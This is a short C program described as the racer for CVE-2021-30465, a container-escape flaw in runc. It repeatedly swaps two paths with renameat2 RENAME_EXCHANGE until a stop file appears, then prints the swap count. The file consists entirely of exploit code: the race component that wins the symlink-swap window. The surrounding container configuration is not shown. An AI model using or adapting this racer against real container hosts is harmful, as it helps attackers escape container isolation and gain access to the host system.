/* CVE-2021-30465 racer: swaps A and B (renameat2 RENAME_EXCHANGE) in a
 * tight loop until the file STOP exists; prints the swap count. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv) {
  if (argc != 4)
    return 2;
  long n = 0;
  while (access(argv[3], F_OK) != 0)
    for (int i = 0; i < 1000; i++)
      if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
                  RENAME_EXCHANGE) == 0)
        n++;
  printf("%ld\n", n);
  return 0;
}
